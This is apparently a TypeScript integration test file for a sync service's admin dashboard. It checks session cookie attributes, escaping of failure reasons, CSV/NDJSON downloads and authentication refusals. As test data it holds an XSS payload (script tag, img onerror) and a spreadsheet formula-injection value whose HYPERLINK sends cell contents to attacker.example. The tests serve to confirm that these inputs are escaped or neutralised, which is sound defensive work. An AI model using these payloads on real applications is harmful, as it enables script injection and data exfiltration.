/**
 * The dashboard over plain HTTP (no browser): the session cookie and its attributes, behind a proxy or not; the run
 * page's failure groups and their rows; the rows downloads through the session cookie, and what they refuse.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { RawRow, RunStatus } from '../../src/interfaces.js';
import { importRun } from '../../src/producer/import-run.js';
import { createPatchQueue } from '../../src/queue/queues.js';
import { redisKeys } from '../../src/redis-layout.js';
import { ResultStore } from '../../src/results/store.js';
import { reasonId } from '../../src/server/run-view.js';
import { seedRecords, startInProcessWorker, testEnvs, waitForRun, type TestEnv } from '../support/harness.js';
import { API_TOKEN, authHeaders, eventRecord, startTestServer, type TestServer } from '../support/server-helpers.js';

const env = testEnvs();

async function login(server: TestServer, headers: Record<string, string> = {}): Promise<Response> {
  return fetch(`${server.url}/admin/login`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded', ...headers },
    body: new URLSearchParams({ token: API_TOKEN, next: '/admin/runs' }).toString(),
    redirect: 'manual',
  });
}

/** The session cookie's value out of a Set-Cookie header ("csync_session=<value>; Path=…"). */
const sessionOf = (setCookie: string) => /csync_session=([^;]*)/.exec(setCookie)?.[1] ?? '';

describe('dashboard session cookie', () => {
  it('is HttpOnly, SameSite=Strict and limited to /admin; Secure only behind a proxy SYNC_TRUST_PROXY trusts', async () => {
    const t = await env('dash-cookie');
    const direct = await startTestServer(t);
    const proxied = await startTestServer(t, { env: { SYNC_TRUST_PROXY: '127.0.0.1' } });
    try {
      const plain = await login(direct, { 'x-forwarded-proto': 'https' });
      assert.equal(plain.status, 303);
      const cookie = plain.headers.get('set-cookie')!;
      assert.match(cookie, /^csync_session=[0-9a-f]{64}; Max-Age=43200; Path=\/admin; HttpOnly; SameSite=Strict$/);
      assert.doesNotMatch(cookie, /Secure/, 'an untrusted X-Forwarded-Proto is ignored');

      const behindTls = (await login(proxied, { 'x-forwarded-proto': 'https' })).headers.get('set-cookie')!;
      assert.match(behindTls, /; Secure/);
      assert.doesNotMatch((await login(proxied)).headers.get('set-cookie')!, /Secure/, 'plain http through the proxy');

      // The cookie opens the dashboard, among other cookies; a mangled or foreign one does not.
      const session = sessionOf(cookie);
      const runs = (cookieHeader: string) => fetch(`${direct.url}/admin/runs`, { headers: { cookie: cookieHeader } }).then((r) => r.status);
      assert.equal(await runs(`a=1; csync_session=${session}; b=%E0%A4%A`), 200);
      assert.equal(await runs(`csync_session=${session}0`), 401);
      assert.equal(await runs(`csync_session=%E0%A4%A`), 401);
      assert.equal(await runs(`csync_session_x=${session}`), 401);

      const logout = await fetch(`${direct.url}/admin/logout`, { headers: { cookie: `csync_session=${session}` }, redirect: 'manual' });
      assert.match(logout.headers.get('set-cookie')!, /^csync_session=; Max-Age=0; Path=\/admin; HttpOnly; SameSite=Strict$/);
    } finally {
      await direct.close();
      await proxied.close();
    }
  });
});

const HOSTILE_MESSAGE = '<script>window.__xss=1</script><img src=x onerror=alert(1)>';
const HOSTILE_REASON = `404 ResourceNotFound: ${HOSTILE_MESSAGE}`;
const OTHER_REASON = '422 UnprocessableEntity: The entity could not be processed.';
const FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"click")';

/** Queues `count` rows (eventRecord(1..count)) as run `runId` and returns when they are queued. */
async function queueRun(t: TestEnv, runId: string, count: number): Promise<void> {
  const queue = createPatchQueue(t.redis, t.prefix);
  try {
    const rows = (async function* (): AsyncGenerator<RawRow> {
      for (let i = 1; i <= count; i++) yield { line: i, fields: eventRecord(i, { configs: 5 }) };
    })();
    await importRun(new ResultStore(t.redis, t.prefix), queue, { runId, rows, sourceLabel: 'dashboard-http' });
  } finally {
    await queue.close();
  }
}

/**
 * A finished run of 10 rows: Graph refuses 2 with a message holding markup, 3 with another reason, the rest go through.
 * Then line 10 is rewritten by hand as a failed row whose reason and key start with "=" (as a hostile or older
 * writer could leave it), for the download's formula guard.
 */
async function runWithFailures(t: TestEnv): Promise<RunStatus> {
  seedRecords(
    t.sim,
    Array.from({ length: 10 }, (_, k) => eventRecord(k + 1, { configs: 5 })),
  );
  t.sim.injectNext(2, { status: 404, code: 'ResourceNotFound', message: HOSTILE_MESSAGE });
  t.sim.injectNext(3, { status: 422, code: 'UnprocessableEntity', message: 'The entity could not be processed.' });
  const worker = await startInProcessWorker(t, { concurrency: 1 });
  try {
    await queueRun(t, 'with-failures', 10);
    const status = await waitForRun(t.redis, t.prefix, 'with-failures', 30_000);
    assert.deepEqual([status.state, status.failed, status.succeeded], ['completed_with_errors', 5, 5]);
    const last = JSON.parse((await t.redis.hget(redisKeys(t.prefix).rows('with-failures'), '10'))!) as Record<string, unknown>;
    assert.equal(last.state, 'succeeded');
    const hostile = { ...last, state: 'failed', key: `${FORMULA}/u`, reason: FORMULA, httpStatus: 404 };
    await t.redis.hset(redisKeys(t.prefix).rows('with-failures'), '10', JSON.stringify(hostile));
    return status;
  } finally {
    await worker.close();
  }
}

const bearer = { authorization: `Bearer ${API_TOKEN}` };

describe('run page and downloads', () => {
  it('groups failed rows by reason with counts, escaped, each group linking to exactly its rows, page by page', async () => {
    const t = await env('dash-groups');
    await runWithFailures(t);
    const server = await startTestServer(t);
    try {
      const res = await fetch(`${server.url}/admin/runs/with-failures`, { headers: { ...bearer, accept: 'text/html' } });
      assert.equal(res.status, 200);
      const html = await res.text();
      const groupRow = /<tr class="reason-group" data-count="(\d+)">.*?data-reason-id="([0-9a-f]{16})">(.*?)<\/a>/gs;
      const groups = [...html.matchAll(groupRow)].map((m) => [Number(m[1]), m[2], m[3]]);
      const escaped = HOSTILE_REASON.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
      assert.deepEqual(groups, [
        [3, reasonId(OTHER_REASON), OTHER_REASON],
        [2, reasonId(HOSTILE_REASON), escaped],
        [1, reasonId(FORMULA), FORMULA.replace(/&/g, '&amp;').replace(/"/g, '&quot;')],
      ]);
      assert.ok(!html.includes(HOSTILE_MESSAGE), 'the markup of a reason never reaches the page as markup');

      // The group's link: the page lists its two rows, and nothing else.
      const hostileId = reasonId(HOSTILE_REASON);
      const groupUrl = `${server.url}/admin/runs/with-failures?state=failed&reasonId=${hostileId}`;
      const groupPage = await (await fetch(groupUrl, { headers: bearer })).text();
      const lines = [...groupPage.matchAll(/<tr data-line="(\d+)">/g)].map((m) => Number(m[1]));
      assert.equal(lines.length, 2);
      assert.ok(groupPage.includes(`<q data-field="row-reason">${escaped}</q>`));
      assert.ok(!groupPage.includes(HOSTILE_MESSAGE));

      // The same rows from the API, one per page.
      const page = async (after: number) =>
        (await (
          await fetch(`${server.url}/v1/runs/with-failures/rows?state=failed&reasonId=${hostileId}&limit=1&after=${after}`, {
            headers: authHeaders(),
          })
        ).json()) as {
          rows: { line: number; reason: string }[];
          nextAfter?: number;
        };
      const first = await page(0);
      assert.deepEqual(
        first.rows.map((r) => r.line),
        [lines[0]],
      );
      assert.equal(first.nextAfter, lines[0]);
      const second = await page(first.nextAfter);
      assert.deepEqual(
        second.rows.map((r) => [r.line, r.reason]),
        [[lines[1], HOSTILE_REASON]],
      );
      assert.equal(second.nextAfter, undefined);
      const api = (query: string) => fetch(`${server.url}/v1/runs/with-failures/rows?${query}`, { headers: authHeaders() });
      const byText = await api(`reason=${encodeURIComponent(OTHER_REASON)}`);
      assert.equal(((await byText.json()) as { rows: unknown[] }).rows.length, 3);

      for (const bad of ['reasonId=xyz', `reasonId=${'a'.repeat(17)}`, 'after=-1']) {
        assert.equal((await fetch(`${server.url}/admin/runs/with-failures?${bad}`, { headers: bearer })).status, 400, bad);
      }
      assert.equal((await api(`reason=${'x'.repeat(5000)}`)).status, 400);
    } finally {
      await server.close();
    }
  });

  it('downloads the rows as CSV (formulas neutralised) or NDJSON with the session cookie, and refuses without one', async () => {
    const t = await env('dash-download');
    const status = await runWithFailures(t);
    const server = await startTestServer(t);
    try {
      const session = sessionOf((await login(server)).headers.get('set-cookie')!);
      const withSession = { cookie: `csync_session=${session}` };
      const get = (path: string, headers: Record<string, string> = withSession) => fetch(`${server.url}${path}`, { headers });

      const csv = await get('/admin/runs/with-failures/rows.csv?state=failed');
      assert.equal(csv.status, 200);
      assert.match(csv.headers.get('content-type')!, /^text\/csv/);
      assert.equal(csv.headers.get('content-disposition'), 'attachment; filename="with-failures-failed.csv"');
      const text = await csv.text();
      const lines = text.trim().split('\n');
      assert.equal(lines[0], 'line,key,state,httpStatus,attempts,reason,requestId,finishedAt,supersededBy,clientRequestId');
      assert.equal(lines.length - 1, status.failed + 1, 'the failed rows, and the one rewritten as failed');
      const formulaLine = lines.find((l) => l.startsWith('10,'))!;
      assert.ok(formulaLine.includes(`"'=HYPERLINK(""http://attacker.example/?""&A1,""click"")/u"`), formulaLine);
      assert.ok(formulaLine.includes(`"'=HYPERLINK(""http://attacker.example/?""&A1,""click"")"`), formulaLine);
      assert.ok(!/(^|,)"?=/.test(formulaLine), 'no cell starts with =');

      const all = await get('/admin/runs/with-failures/rows.ndjson');
      assert.equal(all.status, 200);
      assert.match(all.headers.get('content-type')!, /^application\/x-ndjson/);
      const records = (await all.text())
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as { line: number; key: string; reason?: string });
      assert.deepEqual(
        records.map((r) => r.line),
        [1, 2, 3, 4, 5, 6, 7, 8, 9, 10],
      );
      assert.equal(records[9].reason, FORMULA, 'NDJSON keeps the value as it is: no spreadsheet reads it');
      const group = await get(`/admin/runs/with-failures/rows.ndjson?state=failed&reasonId=${reasonId(OTHER_REASON)}`);
      assert.equal((await group.text()).trim().split('\n').length, 3);

      // No session, a forged one, or a bearer token for another server: refused before a row is read.
      const refusedHeaders: Record<string, string>[] = [
        {},
        { cookie: `csync_session=${session.slice(0, -1)}0` },
        { cookie: `csync_session=${API_TOKEN}` },
        { authorization: 'Bearer wrong-token-0123456789abcdef' },
      ];
      for (const headers of refusedHeaders) {
        for (const format of ['csv', 'ndjson']) {
          const refused = await get(`/admin/runs/with-failures/rows.${format}`, headers);
          assert.equal(refused.status, 401, JSON.stringify(headers));
          assert.doesNotMatch(await refused.text(), /with-failures|HYPERLINK/);
        }
      }
      const browser = await get('/admin/runs/with-failures/rows.csv', { accept: 'text/html' });
      assert.equal(browser.status, 401);
      assert.match(await browser.text(), /<form class="login"/);
      assert.equal((await get('/admin/runs/no-such-run/rows.csv')).status, 404);
      assert.equal((await get('/admin/runs/a:b/rows.csv')).status, 400);
      assert.equal((await get('/admin/runs/with-failures/rows.csv?state=nonsense')).status, 400);
    } finally {
      await server.close();
    }
  });

  it('reloads the page of a running run, with its ETA unknown until rows are sent, and not the page of a finished one', async () => {
    const t = await env('dash-refresh');
    seedRecords(
      t.sim,
      [1, 2, 3].map((i) => eventRecord(i, { configs: 5 })),
    );
    await queueRun(t, 'waiting', 3);
    const server = await startTestServer(t);
    try {
      const html = await (await fetch(`${server.url}/admin/runs/waiting`, { headers: bearer })).text();
      assert.match(html, /<meta http-equiv="refresh" content="10">/);
      assert.match(html, /data-field="eta">unknown: no row has been sent yet</);
      assert.match(html, /<progress class="tone-running"/);
      assert.match(html, /id="timeline-empty"/);
    } finally {
      await server.close();
    }
    const worker = await startInProcessWorker(t);
    try {
      await waitForRun(t.redis, t.prefix, 'waiting', 30_000);
    } finally {
      await worker.close();
    }
    const after = await startTestServer(t);
    try {
      const html = await (await fetch(`${after.url}/admin/runs/waiting`, { headers: bearer })).text();
      assert.doesNotMatch(html, /http-equiv="refresh"/);
      assert.match(html, /data-field="eta">done</);
      assert.match(html, /<progress class="tone-completed"/);
      // The test env's budget (1000/s) is far above 3 rows: named above the plot, not drawn to its scale.
      assert.deepEqual(t.config.rateLimit, { limit: 1000, windowMs: 1000 });
      assert.match(html, /<g class="budget" data-per-bar="10000" data-limit="1000" data-window-ms="1000"\s+data-on-scale="false">/);
      assert.match(html, /budget 10000 per 10 s: far above this scale/);
    } finally {
      await after.close();
    }
  });
});
